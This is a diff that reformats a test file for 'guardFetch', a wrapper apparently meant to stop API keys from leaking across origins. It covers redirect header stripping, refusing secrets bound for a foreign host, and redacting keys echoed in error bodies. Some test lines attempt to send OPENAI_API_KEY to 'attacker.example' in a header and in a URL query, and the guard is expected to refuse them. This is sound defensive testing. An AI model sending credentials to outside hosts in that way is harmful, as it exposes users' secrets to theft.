@@ -19,13 +19,10 @@ describe("guardFetch", () => {
 
   it("follows a redirect to another origin without the headers that carried a secret", async () => {
     const { sent, fetchFn } = network({
-      "https://api.openai.com/v1/files/x": () =>
-        new Response(null, { status: 302, headers: { location: "https://cdn.example/blob" } }),
+      "https://api.openai.com/v1/files/x": () => new Response(null, { status: 302, headers: { location: "https://cdn.example/blob" } }),
       "https://cdn.example/blob": () => new Response("bytes"),
     });
-    const response = await guardFetch(fetchFn, policy)("https://api.openai.com/v1/files/x", {
-      headers: { authorization: `Bearer ${KEY}` },
-    });
+    const response = await guardFetch(fetchFn, policy)("https://api.openai.com/v1/files/x", { headers: { authorization: `Bearer ${KEY}` } });
     expect(await response.text()).toBe("bytes");
     expect(sent).toEqual([
       { url: "https://api.openai.com/v1/files/x", authorization: `Bearer ${KEY}` },
@@ -36,9 +33,7 @@ describe("guardFetch", () => {
   it("refuses, unsent, a secret bound for a foreign origin, in a header or in the URL", async () => {
     const { sent, fetchFn } = network({});
     const guarded = guardFetch(fetchFn, policy);
-    await expect(guarded("https://attacker.example/v1", { headers: { "x-api-key": KEY } })).rejects.toThrow(
-      /'OPENAI_API_KEY' to https:\/\/attacker\.example/,
-    );
+    await expect(guarded("https://attacker.example/v1", { headers: { "x-api-key": KEY } })).rejects.toThrow(/'OPENAI_API_KEY' to https:\/\/attacker\.example/);
     await expect(guarded(`https://attacker.example/v1?key=${KEY}`)).rejects.toThrow(/OPENAI_API_KEY/);
     expect(sent).toEqual([]);
   });
@@ -46,8 +41,7 @@ describe("guardFetch", () => {
   it("passes keyless calls to public hosts, and redacts secrets echoed in error bodies", async () => {
     const { fetchFn } = network({
       "https://example.com/data.jsonl": () => new Response("{}"),
-      "https://api.openai.com/v1/chat": () =>
-        new Response(`invalid key ${KEY}`, { status: 401, headers: { "content-length": "40" } }),
+      "https://api.openai.com/v1/chat": () => new Response(`invalid key ${KEY}`, { status: 401, headers: { "content-length": "40" } }),
     });
     const guarded = guardFetch(fetchFn, policy);
     expect(await (await guarded("https://example.com/data.jsonl")).text()).toBe("{}");
